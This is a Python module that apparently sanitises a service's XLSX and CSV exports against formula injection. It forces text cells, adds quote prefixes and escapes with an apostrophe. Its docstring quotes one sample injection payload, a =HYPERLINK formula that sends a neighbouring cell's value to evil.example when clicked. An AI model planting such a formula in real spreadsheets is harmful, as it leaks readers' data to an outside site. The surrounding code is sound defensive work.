"""Every spreadsheet (XLSX) and CSV file the service writes: text in them is never a formula.

Titles, names and progress commentary are typed by many people. Written as they are, a
commentary such as ``=HYPERLINK("http://evil.example/?x="&A2,"Evidence pack")`` reaches the
reader's spreadsheet program as a live formula that sends the next cell to another site when
clicked. So no export builds its own file: each takes its workbook from ``new_workbook`` and
writes rows with ``append_row``, or writes CSV with ``csv_text``, and a test keeps it so.

XLSX: a text cell is always a string cell (type "s"), never left to openpyxl's guess, which
makes "=..." a formula and "#N/A" an error. A string cell is never calculated, so the text is
kept exactly, with nothing added: the reader sorts and filters what was typed, and the plan
import reads back the same text. Text that starts like a formula is also marked "quote
prefix", Excel's own mark for text typed after an apostrophe, so that it stays text when
someone edits the cell. An apostrophe in the text itself would instead show in the cell and
come back in an import as part of the title. Line breaks are written as Excel's own, a line
feed (a carriage return does not survive the file's XML), and control characters, which a
workbook cannot hold, are left out rather than failing the whole file. A workbook from
``new_workbook`` turns any formula cell into text again when it is saved, whoever wrote it.

CSV has no cell types: the program opening it decides what each cell is. Text starting with
one of ``FORMULA_STARTS`` is written after an apostrophe, as OWASP's guidance on CSV
injection advises; a spreadsheet program shows it as text, and ``csv_unescape`` removes the
apostrophe when the plan import reads the file back.

Numbers, dates and times stay numbers, dates and times in both formats.
"""

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

Value = str | int | float | Decimal | dt.date | dt.datetime | dt.time | None

# A spreadsheet program runs a cell starting with one of these as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_LINE_BREAK = re.compile(r"\r\n?")


class _TextOnlyWorkbook(Workbook):
    """A workbook that saves no formulas: the last guard, for cells not written by a row."""

    def save(self, filename: Any) -> None:
        for sheet in self.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type in ("f", "e") and isinstance(cell.value, str):
                        _as_text(cell, cell.value)
        super().save(filename)


def new_workbook(sheet_title: str) -> tuple[Workbook, Worksheet]:
    """A workbook of one sheet, named ``sheet_title``, and that sheet."""
    book = _TextOnlyWorkbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.title = sheet_title
    return book, sheet


def append_row(sheet: Worksheet, values: Iterable[Value]) -> None:
    """Add a row below the last: text as text cells, numbers and dates as they are."""
    sheet.append([_cell(sheet, value) for value in values])


def _cell(sheet: Worksheet, value: Value) -> Cell:
    cell = Cell(sheet)
    if isinstance(value, str):
        _as_text(cell, value)
    else:
        cell.value = value
    return cell


def _as_text(cell: Cell, text: str) -> None:
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", _LINE_BREAK.sub("\n", text))
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def workbook_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- CSV ------------------------------------------------------------------------------------


def csv_escape(text: str) -> str:
    """Text as a CSV cell that no spreadsheet program runs as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_unescape(text: str) -> str:
    """A CSV cell as it was before ``csv_escape``."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def csv_cell(value: Value, *, date_format: str = "%d/%m/%Y") -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return csv_escape(value)
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, dt.date):
        return value.strftime(date_format)
    if isinstance(value, Decimal):
        # As a person writes it: 38, not 38.00; 51.25 as it is.
        return f"{value.normalize():f}"
    return str(value)


def csv_text(rows: Iterable[Sequence[Value]], *, date_format: str = "%d/%m/%Y") -> str:
    """Rows as CSV text (RFC 4180 line endings); dates in ``date_format``."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([csv_cell(value, date_format=date_format) for value in row] for row in rows)
    return out.getvalue()
